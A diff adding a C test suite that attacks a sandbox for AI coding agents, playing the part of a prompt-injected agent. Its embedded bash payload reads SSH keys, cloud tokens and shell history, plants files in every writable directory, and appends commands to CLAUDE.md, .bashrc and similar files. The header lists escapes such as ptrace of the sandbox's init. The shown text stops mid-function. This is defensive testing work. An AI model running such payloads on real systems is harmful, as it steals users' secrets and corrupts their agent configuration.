@@ -1,0 +1,1471 @@
+/* test-sandbox-attacks.c: issue 9's proofs of SPEC section 8, each attack run
+ * inside a real sandboxed session and its effect checked where it would land.
+ *
+ * Every session is started as a user would (`hqt new P claude --sandbox --fs
+ * rw`) on a private tmux server; the harness on PATH ($ROOT/bin/claude or
+ * codex) is the attack payload, a bash script written by the test: a
+ * prompt-injected agent with its permission prompts skipped.  An attack
+ * payload first checks that it is inside the sandbox (pid 1 is bwrap and its
+ * pid namespace is not the test's) and otherwise execs the stock fake
+ * harness, so attack code never runs on the host; only the harmless controls
+ * (reads, escapes to its own pane, git plants in the test's own copies) run
+ * outside.  Results go to $PWD/attack-NAME.out, in the project (the one place
+ * a writable session may write), found by name under the test root so that
+ * a session working in its own git worktree is found too.  Every refusal has
+ * a control that lands, so a broken setup cannot pass.
+ *
+ * Against main at 5f4df83 (the sandbox before issue 9's rebuild), all seven
+ * FAIL, each with its control passing (ctest -R attacks, about 20 s):
+ *   host_diff_claude, host_diff_codex: the session reads other projects'
+ *       transcripts and the harness's history (~/.claude is bound writable
+ *       whole), plants files in ~/.claude, ~/.claude/shell-snapshots, other
+ *       projects' transcript dirs and in every directory of the project's
+ *       .git, appends to ~/.claude/CLAUDE.md and the shell snapshot; bwrap
+ *       leaves ~/.claude/plugins and settings.local.json behind on the host.
+ *       The second session's control also fails: the user's CLAUDE.md (or
+ *       AGENTS.md) as the host has it is not what it sees (the contract wants
+ *       it visible read-only), so its "saw no plant" proves nothing yet.
+ *   git_plants_never_run_on_the_host: commondir, worktrees/<wt>/commondir
+ *       and `git init` plants (non-git project, monorepo sub-directory) run
+ *       on the host's git status; skip-worktree hides an edit; a .git is left
+ *       in the non-git project.  (config, hooks, hooksPath, modules: held.)
+ *   ptrace_and_outliving: PTRACE_ATTACH and PTRACE_SEIZE of bwrap's init,
+ *       process_vm_writev and pidfd_getfd all succeed.  (The kill check
+ *       passes: the probe detaches at once and does not clear init's
+ *       parent-death signal.)
+ *   etc_allowlist: /etc/zz-secret and the 0600 pads past 256 are readable,
+ *       /opt is visible (/etc/a/b/c/secret: held).
+ *   terminal_no_clipboard_or_passthrough: OSC 52 query returns the paste
+ *       buffer, OSC 52 set makes a new top buffer.  DCS passthrough is sent
+ *       but not observed (that needs an attached client; not done).
+ *   codex_capture_not_fed_from_a_sandbox: forged rollouts land in the host's
+ *       ~/.codex and the unsandboxed codex in the other project captures the
+ *       forged id.
+ */
+#ifndef _GNU_SOURCE
+#define _GNU_SOURCE
+#endif
+#include <criterion/criterion.h>
+#include <criterion/logging.h>
+
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <ftw.h>
+#include <jansson.h>
+#include <sched.h>
+#include <signal.h>
+#include <stdbool.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mount.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+#include "support.h"
+
+static struct tenv te;
+static char *bin;    /* $ROOT/bin: the fake harnesses' install dir (on PATH) */
+static char *data;   /* $XDG_DATA_HOME: hqt's data dir is data/hqt */
+static char *tok;    /* unique per test: markers, plants, secrets */
+static char *hostns; /* the inode of the test's pid namespace */
+
+/* ---- small helpers ------------------------------------------------------ */
+
+static char *
+resolved(const char *path)
+{
+	char *r = realpath(path, NULL);
+
+	cr_assert_not_null(r, "realpath %s: %s", path, strerror(errno));
+	return r;
+}
+
+static bool
+exists(const char *p)
+{
+	struct stat st;
+
+	return lstat(p, &st) == 0;
+}
+
+/* s with every @KEY@ of the NULL-terminated pairs replaced. */
+static char *
+subst(const char *s, const char *const *pairs)
+{
+	char *out = strdup(s);
+
+	for (size_t i = 0; pairs[i] != NULL; i += 2) {
+		char *key = fmt("@%s@", pairs[i]), *p;
+		while ((p = strstr(out, key)) != NULL) {
+			char *n = fmt("%.*s%s%s", (int)(p - out), out, pairs[i + 1], p + strlen(key));
+			free(out);
+			out = n;
+		}
+		free(key);
+	}
+	return out;
+}
+
+/* Run argv in te's environment in directory dir (sh -c 'cd "$0" && exec "$@"'). */
+static void
+run_in(struct run *r, const char *dir, const char *const *argv)
+{
+	const char *full[64] = { "sh", "-c", "cd \"$0\" && exec \"$@\"", dir };
+	size_t n = 4;
+
+	for (size_t i = 0; argv[i] != NULL && n < 63; i++)
+		full[n++] = argv[i];
+	full[n] = NULL;
+	run_argv(r, &te, full, NULL);
+}
+
+static void
+sh_ok(const char *dir, const char *script)
+{
+	struct run r;
+	const char *argv[] = { "sh", "-ec", script, NULL };
+
+	run_in(&r, dir, argv);
+	cr_assert_eq(r.code, 0, "in %s: %s: exit %d\n%s%s", dir, script, r.code, r.out, r.err);
+	run_free(&r);
+}
+
+static char *
+new_project(const char *name, const char *path)
+{
+	char *cmd = fmt("mkdir -p '%s'", path);
+
+	sh_ok("/", cmd);
+	free(cmd);
+	char *real = resolved(path);
+	run_ok(&te, "project", "add", name, real, NULL);
+	return real;
+}
+
+static char *
+num(long id)
+{
+	return fmt("%ld", id);
+}
+
+static void
+kill_session(long id)
+{
+	char *n = num(id);
+
+	run_ok(&te, "kill", n, NULL);
+	free(n);
+}
+
+/* ---- processes ---------------------------------------------------------- */
+
+static int
+count_marked(const char *marker)
+{
+	DIR *d = opendir("/proc");
+	struct dirent *de;
+	int n = 0;
+
+	while (d != NULL && (de = readdir(d)) != NULL) {
+		char *end;
+		long pid = strtol(de->d_name, &end, 10);
+		if (*end != '\0' || pid <= 0)
+			continue;
+		char *path = fmt("/proc/%ld/cmdline", pid);
+		int fd = open(path, O_RDONLY | O_CLOEXEC);
+		free(path);
+		if (fd < 0)
+			continue;
+		char buf[8192];
+		ssize_t len = read(fd, buf, sizeof buf - 1);
+		close(fd);
+		if (len <= 0)
+			continue;
+		buf[len] = '\0';
+		for (ssize_t i = 0; i < len; i += (ssize_t)strlen(buf + i) + 1)
+			if (strcmp(buf + i, marker) == 0) {
+				n++;
+				break;
+			}
+	}
+	if (d != NULL)
+		closedir(d);
+	return n;
+}
+
+static int
+none_marked(void *marker)
+{
+	return count_marked(marker) == 0;
+}
+
+/* ---- the payloads ------------------------------------------------------- */
+
+/*
+ * What every payload starts with.  M and the secret pattern are put together
+ * at run time, so the payload file itself holds neither.
+ */
+static const char HEADER[] =
+	"#!/bin/bash\n"
+	"# an attack payload of test-sandbox-attacks.c\n"
+	"HOSTNS=@HOSTNS@ TOK=@TOK@ ROOT=@ROOT@ HOSTHOME=@HOME@ BIN=@BIN@\n"
+	"STOCK=@STOCK@\n"
+	"M=PLANT\"-$TOK\" S=SECRET\"-$TOK\" C=CONTROL\"-$TOK\"\n"
+	"sandboxed() { [ \"$(cat /proc/1/comm 2>/dev/null)\" = bwrap ] &&\n"
+	"	[ \"$(stat -L -c %i /proc/self/ns/pid)\" != \"$HOSTNS\" ]; }\n"
+	"OUT=$PWD/attack-@NAME@.out\n"
+	"rec() { printf '%s\\n' \"$*\" >>\"$OUT\"; }\n"
+	"park() { rec DONE; exec -a \"hqt-attack-$TOK\" sleep 1000; }\n";
+
+/* Install bin/harness: HEADER then body; attack says the body may run only
+ * inside a sandbox (else the stock fake harness runs). */
+static void
+install_payload(const char *harness, const char *body, bool attack)
+{
+	char *stock = fmt("%s/%s", getenv("HQT_FAKE_DIR"), harness);
+	const char *pairs[] = { "HOSTNS", hostns, "TOK", tok, "ROOT", te.root, "HOME", te.home,
+				"BIN", bin, "STOCK", stock, "NAME", harness, NULL };
+	char *guard = attack ? "sandboxed || exec \"$STOCK\" \"$@\"\n" : "";
+	char *text = fmt("%s%s%s", HEADER, guard, body);
+	char *script = subst(text, pairs);
+	char *path = fmt("%s/%s", bin, harness);
+
+	write_file(path, script, 0755);
+	free(path);
+	free(script);
+	free(text);
+	free(stock);
+}
+
+static char *found_path;
+
+static int
+find_one(const char *path, const struct stat *st, int flag, struct FTW *ftw)
+{
+	(void)st;
+	if (flag == FTW_F && strcmp(path + ftw->base, found_path) == 0) {
+		found_path = strdup(path);
+		return 1;
+	}
+	return 0;
+}
+
+/* The file named name under dir (the first found), or NULL. */
+static char *
+find_named(const char *dir, const char *name)
+{
+	char *want = strdup(name);
+
+	found_path = want;
+	if (nftw(dir, find_one, 32, FTW_PHYS) != 1) {
+		free(want);
+		return NULL;
+	}
+	free(want);
+	return found_path;
+}
+
+/*
+ * The results of harness's payload in the project at dir (or in a worktree
+ * of it somewhere under the test root): waits up to 10 s for its DONE line.
+ * *where gets the file's path when not NULL.
+ */
+static char *
+results_in(const char *dir, const char *harness, long id, char **where)
+{
+	char *name = fmt("attack-%s.out", harness), *path = fmt("%s/%s", dir, name);
+	long long end = now_ms() + 10000;
+
+	for (;;) {
+		char *text = slurp(path);
+		if (text == NULL) {
+			/* in a worktree of the project: its name is not ours to know */
+			char *p = find_named(te.root, name);
+			if (p != NULL && strncmp(p, dir, strlen(dir)) != 0) {
+				text = slurp(p);
+				free(path);
+				path = p;
+			} else
+				free(p);
+		}
+		if (text != NULL && (strstr(text, "\nDONE\n") != NULL || strncmp(text, "DONE\n", 5) == 0)) {
+			if (where != NULL)
+				*where = path;
+			else
+				free(path);
+			free(name);
+			return text;
+		}
+		if (now_ms() >= end) {
+			struct run r;
+			char *target = fmt("=hqt:hqt-%ld", id);
+			run_tmux(&r, &te, "capture-pane", "-p", "-J", "-t", target, NULL);
+			cr_assert_fail("session %ld: no DONE in %s after 10 s\n--- file:\n%s\n--- pane:\n%s",
+				       id, path, text ? text : "(missing)", r.out);
+		}
+		free(text);
+		sleep_ms(50);
+	}
+}
+
+/* The lines of text that start with prefix, joined by newlines ("" if none). */
+static char *
+lines_with(const char *text, const char *prefix)
+{
+	char *out = strdup("");
+
+	for (const char *l = text; l != NULL && *l != '\0';) {
+		const char *e = strchr(l, '\n');
+		size_t len = e != NULL ? (size_t)(e - l) : strlen(l);
+		if (strncmp(l, prefix, strlen(prefix)) == 0) {
+			char *n = fmt("%s%.*s\n", out, (int)len, l);
+			free(out);
+			out = n;
+		}
+		l = e != NULL ? e + 1 : NULL;
+	}
+	return out;
+}
+
+/* The rest of the first line starting with prefix, or NULL. */
+static char *
+line_after(const char *text, const char *prefix)
+{
+	for (const char *l = text; l != NULL && *l != '\0';) {
+		const char *e = strchr(l, '\n');
+		size_t len = e != NULL ? (size_t)(e - l) : strlen(l);
+		if (len >= strlen(prefix) && strncmp(l, prefix, strlen(prefix)) == 0)
+			return strndup(l + strlen(prefix), len - strlen(prefix));
+		l = e != NULL ? e + 1 : NULL;
+	}
+	return NULL;
+}
+
+/* ---- setup ---------------------------------------------------------------- */
+
+static void
+setup(void)
+{
+	struct stat st;
+
+	tenv_init(&te, NULL);
+	tok = fmt("%d%lld", (int)getpid(), now_ms() % 100000000);
+	cr_assert_eq(stat("/proc/self/ns/pid", &st), 0);
+	hostns = fmt("%lu", (unsigned long)st.st_ino);
+	bin = fmt("%s/bin", te.root);
+	data = fmt("%s/data", te.root);
+	mkdir(bin, 0755);
+	mkdir(data, 0700);
+	/* hqt's own files outside the snapshotted HOME */
+	tenv_put(&te, "XDG_DATA_HOME", data);
+	char *v = fmt("%s/cache", te.root);
+	tenv_put(&te, "XDG_CACHE_HOME", v);
+	free(v);
+	v = fmt("%s/state", te.root);
+	tenv_put(&te, "XDG_STATE_HOME", v);
+	free(v);
+	v = fmt("%s/run", te.root);
+	mkdir(v, 0700);
+	tenv_put(&te, "XDG_RUNTIME_DIR", v);
+	free(v);
+	v = fmt("%s:/usr/bin:/bin", bin);
+	tenv_put(&te, "PATH", v);
+	free(v);
+	tenv_put(&te, "HQT_PLUGIN_DIR", getenv("HQT_TEST_PLUGIN_DIR"));
+	tenv_put(&te, "HQT_VERIFY_MS", "300");
+	tenv_put(&te, "GIT_CONFIG_NOSYSTEM", "1");
+	static const char *const unset[] = {
+		"IS_SANDBOX", "FAKE_DIR", "FAKE_LOG_DIR", "FAKE_RECORD", "FAKE_CONTROL",
+		"FAKE_STATE", "SSH_AUTH_SOCK", "DBUS_SESSION_BUS_ADDRESS", "DISPLAY",
+		"HQT_NO_PROBE_CACHE", "CODEX_HOME", "CLAUDE_CONFIG_DIR", "GIT_DIR",
+		"GIT_WORK_TREE", "GIT_INDEX_FILE", "GIT_COMMON_DIR", "GIT_CEILING_DIRECTORIES",
+	};
+	for (size_t i = 0; i < sizeof unset / sizeof unset[0]; i++)
+		tenv_put(&te, unset[i], NULL);
+	/* the probe beside the payloads: inside the harness's (read-only) install dir */
+	char *cp = fmt("cp '%s/tests/probe/hqt-probe' '%s/hqt-probe'", build_dir(), bin);
+	sh_ok("/", cp);
+	free(cp);
+}
+
+static void
+teardown(void)
+{
+	tenv_free(&te);
+	free(bin);
+	free(data);
+	free(tok);
+	free(hostns);
+}
+
+TestSuite(attacks, .init = setup, .fini = teardown, .timeout = 120);
+
+/* ---- 1. the host diff ------------------------------------------------------ */
+
+/* One line per file: "relpath\ttype mode size hash target". */
+struct snap {
+	char **lines;
+	size_t n, cap;
+	size_t skip; /* length of the root's path + 1 */
+};
+
+static struct snap *cur_snap;
+
+static uint64_t
+hash_file(const char *path, off_t *size)
+{
+	uint64_t h = 1469598103934665603ULL;
+	int fd = open(path, O_RDONLY | O_CLOEXEC | O_NOFOLLOW);
+	unsigned char buf[8192];
+	ssize_t n;
+
+	*size = 0;
+	if (fd < 0)
+		return 0;
+	while ((n = read(fd, buf, sizeof buf)) > 0) {
+		for (ssize_t i = 0; i < n; i++)
+			h = (h ^ buf[i]) * 1099511628211ULL;
+		*size += n;
+	}
+	close(fd);
+	return h;
+}
+
+static int
+snap_one(const char *path, const struct stat *st, int flag, struct FTW *ftw)
+{
+	struct snap *s = cur_snap;
+	char desc[5000];
+	(void)flag; (void)ftw;
+
+	if (strlen(path) < s->skip)
+		return 0; /* the root itself */
+	if (S_ISREG(st->st_mode)) {
+		off_t size;
+		uint64_t h = hash_file(path, &size);
+		snprintf(desc, sizeof desc, "f %o %lld %016llx", (unsigned)(st->st_mode & 07777),
+			 (long long)size, (unsigned long long)h);
+	} else if (S_ISLNK(st->st_mode)) {
+		char target[4096];
+		ssize_t n = readlink(path, target, sizeof target - 1);
+		target[n > 0 ? n : 0] = '\0';
+		snprintf(desc, sizeof desc, "l -> %s", target);
+	} else if (S_ISDIR(st->st_mode))
+		snprintf(desc, sizeof desc, "d %o", (unsigned)(st->st_mode & 07777));
+	else
+		snprintf(desc, sizeof desc, "o %o", (unsigned)st->st_mode);
+	if (s->n + 1 >= s->cap) {
+		s->cap = s->cap ? s->cap * 2 : 256;
+		s->lines = realloc(s->lines, s->cap * sizeof *s->lines);
+		cr_assert_not_null(s->lines);
+	}
+	s->lines[s->n++] = fmt("%s\t%s", path + s->skip, desc);
+	return 0;
+}
+
+static int
+cmp_str(const void *a, const void *b)
+{
+	return strcmp(*(char *const *)a, *(char *const *)b);
+}
+
+static struct snap *
+snapshot(const char *root)
+{
+	struct snap *s = calloc(1, sizeof *s);
+
+	s->skip = strlen(root) + 1;
+	cur_snap = s;
+	nftw(root, snap_one, 32, FTW_PHYS);
+	qsort(s->lines, s->n, sizeof *s->lines, cmp_str);
+	return s;
+}
+
+static void
+snap_free(struct snap *s)
+{
+	for (size_t i = 0; s != NULL && i < s->n; i++)
+		free(s->lines[i]);
+	if (s != NULL)
+		free(s->lines);
+	free(s);
+}
+
+/* Does file root/rel hold text? */
+static bool
+holds(const char *root, const char *rel, const char *text)
+{
+	char *p = fmt("%s/%s", root, rel), *c = slurp(p);
+	bool yes = c != NULL && strstr(c, text) != NULL;
+
+	free(p);
+	free(c);
+	return yes;
+}
+
+/*
+ * What changed from a to b under root: "+path", "-path", "~path" lines, but
+ * not the changes allowed(rel) forgives (then only when the file holds no
+ * plant: what hqt itself wrote there, never the payload's).
+ */
+static char *
+snap_diff(struct snap *a, struct snap *b, const char *root, bool (*allowed)(const char *))
+{
+	char *out = strdup("");
+	size_t i = 0, j = 0;
+
+	while (i < a->n || j < b->n) {
+		int c = i >= a->n ? 1 : j >= b->n ? -1 : strcmp(a->lines[i], b->lines[j]);
+		const char *line = c < 0 ? a->lines[i] : b->lines[j];
+		size_t plen = strcspn(line, "\t");
+		char *rel = strndup(line, plen);
+		char kind = c < 0 ? '-' : '+';
+
+		if (c == 0) {
+			i++, j++;
+			free(rel);
+			continue;
+		}
+		/* the same path on both sides: a change */
+		if (c < 0 && j < b->n && strncmp(b->lines[j], line, plen + 1) == 0)
+			kind = '~', j++;
+		else if (c > 0 && i < a->n && strncmp(a->lines[i], line, plen + 1) == 0)
+			kind = '~', i++;
+		if (c < 0)
+			i++;
+		else if (kind != '~')
+			j++;
+		else
+			j++;
+		char *plant = fmt("PLANT-%s", tok);
+		bool forgiven = allowed != NULL && kind != '-' && allowed(rel) && !holds(root, rel, plant);
+		free(plant);
+		if (!forgiven) {
+			char *n = fmt("%s%c%s\n", out, kind, rel);
+			free(out);
+			out = n;
+		}
+		free(rel);
+	}
+	return out;
+}
+
+static const char *cur_own; /* the project's name in ~/.claude/projects */
+
+/* In HOME: the host harness may see the session's own conversation. */
+static bool
+home_allowed(const char *rel)
+{
+	char *own = fmt(".claude/projects/%s/", cur_own);
+	size_t n = strlen(rel);
+	bool ok = (strncmp(rel, own, strlen(own)) == 0 && n > 6 && strcmp(rel + n - 6, ".jsonl") == 0) ||
+		  strcmp(rel, own) == 0 || (strncmp(rel, own, strlen(own) - 1) == 0 && rel[strlen(own) - 1] == '\0');
+	/* codex: the session's own rollout, for an unsandboxed resume */
+	if (strncmp(rel, ".codex/sessions/", 16) == 0 &&
+	    (strstr(rel, "/rollout-") == NULL || (n > 6 && strcmp(rel + n - 6, ".jsonl") == 0)))
+		ok = true;
+	free(own);
+	return ok;
+}
+
+/* In the project's .git: what a commit on the session's own branch in its own
+ * worktree needs (objects, refs, logs, the worktree's admin dir but for what
+ * git reads as configuration or as the location of git directories). */
+static bool
+git_allowed(const char *rel)
+{
+	if (strncmp(rel, "objects", 7) == 0 || strncmp(rel, "refs", 4) == 0 ||
+	    strncmp(rel, "logs", 4) == 0)
+		return true;
+	if (strncmp(rel, "worktrees", 9) == 0) {
+		const char *base = strrchr(rel, '/');
+		base = base != NULL ? base + 1 : rel;
+		return strcmp(base, "config") != 0 && strcmp(base, "config.worktree") != 0 &&
+		       strcmp(base, "commondir") != 0 && strstr(rel, "/hooks") == NULL;
+	}
+	return false;
+}
+
+/* A user's home as the harnesses leave it, with secrets where none may read. */
+static void
+populate_home(const char *other_proj)
+{
+	const char *h = te.home;
+	char *S = fmt("SECRET-%s", tok);
+	struct { const char *rel, *text; int mode; } f[] = {
+		{ ".claude/settings.json", "{\"permissions\":{}}\n", 0644 },
+		{ ".claude/CLAUDE.md", "# user instructions\n", 0644 },
+		{ ".claude/agents/reviewer.md", "an agent\n", 0644 },
+		{ ".claude/commands/ship.md", "a command\n", 0644 },
+		{ ".claude/skills/s/SKILL.md", "a skill\n", 0644 },
+		{ ".claude/hooks/pre.sh", "#!/bin/sh\n", 0755 },
+		{ ".claude/shell-snapshots/snapshot-bash-1.sh", "# snapshot\nexport A=1\n", 0644 },
+		{ ".claude/.credentials.json", "{\"claudeAiOauth\":{\"accessToken\":\"login\"}}\n", 0600 },
+		{ ".claude.json", "{\"projects\":{}}\n", 0644 },
+		{ ".codex/config.toml", "model = \"x\"\n", 0644 },
+		{ ".codex/AGENTS.md", "# codex instructions\n", 0644 },
+		{ ".codex/auth.json", "{\"tokens\":\"login\"}\n", 0600 },
+		{ ".codex/rules/default.rules", "# rules\n", 0644 },
+		{ ".kiro/steering/product.md", "# steering\n", 0644 },
+		{ ".kiro/settings/cli.json", "{}\n", 0644 },
+		{ ".aws/sso/cache/kiro-auth-token.json", "{\"accessToken\":\"kiro-login\"}\n", 0600 },
+		{ ".bashrc", "# bashrc\n", 0644 },
+		{ ".profile", "# profile\n", 0644 },
+		{ ".gitconfig", "[user]\n\tname = t\n\temail = t@example.com\n", 0644 },
+	};
+	for (size_t i = 0; i < sizeof f / sizeof f[0]; i++) {
+		char *p = fmt("%s/%s", h, f[i].rel);
+		write_file(p, f[i].text, f[i].mode);
+		free(p);
+	}
+	/* the secrets: none is the session's to read */
+	struct { const char *rel, *what; } s[] = {
+		{ ".ssh/id_ed25519", "ssh" },
+		{ ".aws/sso/cache/other.json", "aws" },
+		{ ".bash_history", "history" },
+		{ ".claude/projects/-other-project/abc.jsonl", "claude-transcript" },
+		{ ".claude/history.jsonl", "claude-history" },
+		{ ".codex/history.jsonl", "codex-history" },
+		{ ".kiro/sessions/cli/other.json", "kiro-session" },
+	};
+	for (size_t i = 0; i < sizeof s / sizeof s[0]; i++) {
+		char *p = fmt("%s/%s", h, s[i].rel), *t = fmt("%s-%s\n", S, s[i].what);
+		write_file(p, t, 0600);
+		free(p);
+		free(t);
+	}
+	char *p = fmt("%s/.codex/sessions/2026/01/01/rollout-2026-01-01T00-00-00-"
+		      "0199aaaa-0000-7000-8000-000000000001.jsonl", h);
+	char *t = fmt("{\"timestamp\":\"2026-01-01T00:00:00.000Z\",\"type\":\"session_meta\","
+		      "\"payload\":{\"id\":\"0199aaaa-0000-7000-8000-000000000001\",\"cwd\":\"%s\","
+		      "\"source\":\"cli\"}}\n{\"text\":\"%s-rollout\"}\n", other_proj, S);
+	write_file(p, t, 0600);
+	free(p);
+	free(t);
+	free(S);
+}
+
+static const char HOST_DIFF_PAYLOAD[] =
+	": >\"$OUT\"\n"
+	"NAMED='.claude/CLAUDE.md .claude/settings.json .claude/agents/evil.md\n"
+	"  .claude/commands/evil.md .claude/skills/evil/SKILL.md .claude/hooks/evil.sh\n"
+	"  .claude/shell-snapshots/snapshot-bash-1.sh .claude/projects/-other-project/abc.jsonl\n"
+	"  .claude.json .codex/AGENTS.md .codex/config.toml .codex/rules/x .codex/prompts/evil.md\n"
+	"  .kiro/steering/x.md .kiro/settings/cli.json .aws/sso/cache/other.json .bashrc\n"
+	"  .profile .bash_profile .gitconfig .ssh/authorized_keys .config/git/config'\n"
+	"PRUNE='( -path /proc -o -path /sys -o -path /dev ) -prune -o'\n"
+	"# 1. what an earlier session left where this one looks\n"
+	"find / $PRUNE -name \"hqt-plant-$TOK\" -print 2>/dev/null | while IFS= read -r f; do rec \"seen $f\"; done\n"
+	"for base in \"$HOME\" \"$HOSTHOME\"; do for n in $NAMED .claude/shell-snapshots/*.sh; do\n"
+	"  f=$base/$n; grep -qsF \"$M\" \"$f\" && rec \"seen $f\"; grep -qsF \"$C\" \"$f\" && rec \"control-seen $f\"\n"
+	"done; done\n"
+	"# 2. reads\n"
+	"for base in \"$HOME\" \"$HOSTHOME\"; do for n in .ssh/id_ed25519 .aws/sso/cache/other.json \\\n"
+	"    .bash_history .claude/projects/-other-project/abc.jsonl .claude/history.jsonl \\\n"
+	"    .codex/history.jsonl .kiro/sessions/cli/other.json; do\n"
+	"  c=$(cat \"$base/$n\" 2>/dev/null) && rec \"read $base/$n: $c\"\n"
+	"done; done\n"
+	"grep -rlsF \"$S\" \"$HOME\" \"$HOSTHOME\" /tmp /run /var/tmp /root \"$ROOT\" 2>/dev/null |\n"
+	"  while IFS= read -r f; do [ \"$f\" = \"$OUT\" ] || rec \"leak $f\"; done\n"
+	"# 3. writes: a file in every directory it can see, then the names harnesses obey\n"
+	"find / $PRUNE -type d -print 2>/dev/null >/tmp/dirs.$$\n"
+	"while IFS= read -r d; do { printf '%s\\n' \"$M\" >\"$d/hqt-plant-$TOK\"; } 2>/dev/null && rec \"wrote $d\"; done </tmp/dirs.$$\n"
+	"for base in \"$HOME\" \"$HOSTHOME\"; do for n in $NAMED \"$base\"/.claude/shell-snapshots/*.sh; do\n"
+	"  case $n in /*) f=$n ;; *) f=$base/$n ;; esac\n"
+	"  mkdir -p \"${f%/*}\" 2>/dev/null\n"
+	"  { printf '\\ntouch %s/ran-%s # %s\\n' \"$ROOT\" \"$TOK\" \"$M\" >>\"$f\"; } 2>/dev/null && rec \"appended $f\"\n"
+	"done; done\n"
+	"park\n";
+
+static char *
+claude_dir_name(const char *path)
+{
+	char *s = strdup(path);
+
+	for (char *p = s; *p; p++)
+		if (!((*p >= 'a' && *p <= 'z') || (*p >= 'A' && *p <= 'Z') || (*p >= '0' && *p <= '9')))
+			*p = '-';
+	return s;
+}
+
+static char *plant_name;
+static char *plant_hits;
+static const char *plant_skip[4];
+
+static int
+find_plants(const char *path, const struct stat *st, int flag, struct FTW *ftw)
+{
+	(void)st;
+	for (size_t i = 0; i < 4 && plant_skip[i] != NULL; i++) {
+		size_t n = strlen(plant_skip[i]);
+		if (strncmp(path, plant_skip[i], n) == 0 && (path[n] == '/' || path[n] == '\0'))
+			return flag == FTW_D ? FTW_SKIP_SUBTREE : 0;
+	}
+	if (strcmp(path + ftw->base, plant_name) == 0) {
+		char *n = fmt("%s%s\n", plant_hits, path);
+		free(plant_hits);
+		plant_hits = n;
+	}
+	return 0;
+}
+
+/* Every file named hqt-plant-TOK under dir, but not under the skipped ones. */
+static char *
+plants_under(const char *dir, const char *skip0, const char *skip1, const char *skip2)
+{
+	plant_name = fmt("hqt-plant-%s", tok);
+	plant_hits = strdup("");
+	plant_skip[0] = skip0;
+	plant_skip[1] = skip1;
+	plant_skip[2] = skip2;
+	plant_skip[3] = NULL;
+	nftw(dir, find_plants, 32, FTW_PHYS | FTW_ACTIONRETVAL);
+	free(plant_name);
+	return plant_hits;
+}
+
+static void
+host_diff(const char *harness, const char *instructions)
+{
+	char *other = fmt("%s/other-project", te.root);
+	populate_home(other);
+	char *proj = new_project("p", fmt("%s/proj", te.root));
+	char *proj2 = new_project("q", fmt("%s/proj2", te.root));
+	sh_ok(proj, "git init -q && echo hello > tracked.txt && git add tracked.txt && "
+		    "git -c user.name=t -c user.email=t@t commit -qm one");
+	char *gitdir = fmt("%s/.git", proj);
+	install_payload(harness, HOST_DIFF_PAYLOAD, true);
+	char *own = claude_dir_name(proj);
+	cur_own = own;
+	char *marker = fmt("hqt-attack-%s", tok), *plant = fmt("PLANT-%s", tok);
+
+	struct snap *h0 = snapshot(te.home), *g0 = snapshot(gitdir);
+	long id = run_new(&te, "p", harness, "--sandbox", "--fs", "rw", NULL);
+	char *where = NULL;
+	char *out = results_in(proj, harness, id, &where);
+	cr_expect(count_marked(marker) > 0, "control: the payload's process is not seen");
+	kill_session(id);
+	cr_expect(wait_for(none_marked, marker, 5000), "the session outlived its kill");
+	sleep_ms(200);
+
+	/* control: the walk ran and wrote where a session may (its project) */
+	char *workdir = strndup(where, (size_t)(strrchr(where, '/') - where));
+	char *own_plant = fmt("%s/hqt-plant-%s", workdir, tok);
+	char *t = slurp(own_plant);
+	cr_expect(t != NULL && strstr(t, plant) != NULL, "control: no plant in the project %s", workdir);
+	free(t);
+	char *reads = lines_with(out, "read "), *leaks = lines_with(out, "leak ");
+	cr_expect_str_empty(reads, "secrets read:\n%s", reads);
+	cr_expect_str_empty(leaks, "files with secrets visible:\n%s", leaks);
+	char *secret = fmt("SECRET-%s", tok);
+	cr_expect(strstr(out, secret) == NULL, "a secret is in the results");
+	cr_expect(strstr(out, "\nseen ") == NULL, "plants seen before any:\n%s", lines_with(out, "seen "));
+
+	struct snap *h1 = snapshot(te.home), *g1 = snapshot(gitdir);
+	char *dh = snap_diff(h0, h1, te.home, home_allowed);
+	char *dg = snap_diff(g0, g1, gitdir, git_allowed);
+	cr_expect_str_empty(dh, "the session changed the host home:\n%s", dh);
+	cr_expect_str_empty(dg, "the session changed the project's .git:\n%s", dg);
+	/* anywhere else under the test root and in the host's shared dirs */
+	char *hqtdata = fmt("%s/hqt", data);
+	char *left = plants_under(te.root, proj, hqtdata, strcmp(workdir, proj) != 0 ? workdir : NULL);
+	char *left_git = plants_under(gitdir, NULL, NULL, NULL);
+	cr_expect_str_empty(left, "plants outside the project and hqt's data:\n%s", left);
+	cr_expect_str_empty(left_git, "plants in the project's .git:\n%s", left_git);
+	static const char *const shared[] = { "/tmp", "/var/tmp", "/dev/shm", "/run" };
+	for (size_t i = 0; i < sizeof shared / sizeof shared[0]; i++) {
+		char *l = plants_under(shared[i], te.root, NULL, NULL);
+		cr_expect_str_empty(l, "plants in the host's %s:\n%s", shared[i], l);
+		free(l);
+	}
+
+	/* Control for the diff: a change from outside is seen. */
+	char *rc = fmt("%s/.bashrc", te.home);
+	char *old = slurp(rc), *text = fmt("%secho %s\n", old, plant);
+	write_file(rc, text, 0644);
+	struct snap *h2 = snapshot(te.home);
+	char *dc = snap_diff(h1, h2, te.home, home_allowed);
+	cr_expect_str_eq(dc, "~.bashrc\n", "control: the diff misses a change");
+	write_file(rc, old, 0644);
+
+	/* A second session of the same harness in another project finds none
+	 * of it; control: what the user put in its instructions (from outside)
+	 * it does see. */
+	char *ins = fmt("%s/%s", te.home, instructions), *it = slurp(ins);
+	char *withc = fmt("%s%s\n", it, fmt("CONTROL-%s", tok));
+	write_file(ins, withc, 0644);
+	struct snap *h3 = snapshot(te.home);
+	long id2 = run_new(&te, "q", harness, "--sandbox", "--fs", "rw", NULL);
+	char *out2 = results_in(proj2, harness, id2, NULL);
+	kill_session(id2);
+	cr_expect(wait_for(none_marked, marker, 5000), "the second session outlived its kill");
+	cr_log_info("second session:\n%.3000s", out2);
+	char *seen = lines_with(out2, "seen ");
+	cr_expect_str_empty(seen, "the second project's session found the first one's plants:\n%s", seen);
+	cr_expect(strstr(out2, "control-seen ") != NULL,
+		  "control: the second session does not see the user's %s:\n%s", instructions,
+		  lines_with(out2, "seen"));
+	char *reads2 = lines_with(out2, "read "), *leaks2 = lines_with(out2, "leak ");
+	cr_expect_str_empty(reads2, "the second session read secrets:\n%s", reads2);
+	cr_expect_str_empty(leaks2, "the second session sees files with secrets:\n%s", leaks2);
+	struct snap *h4 = snapshot(te.home);
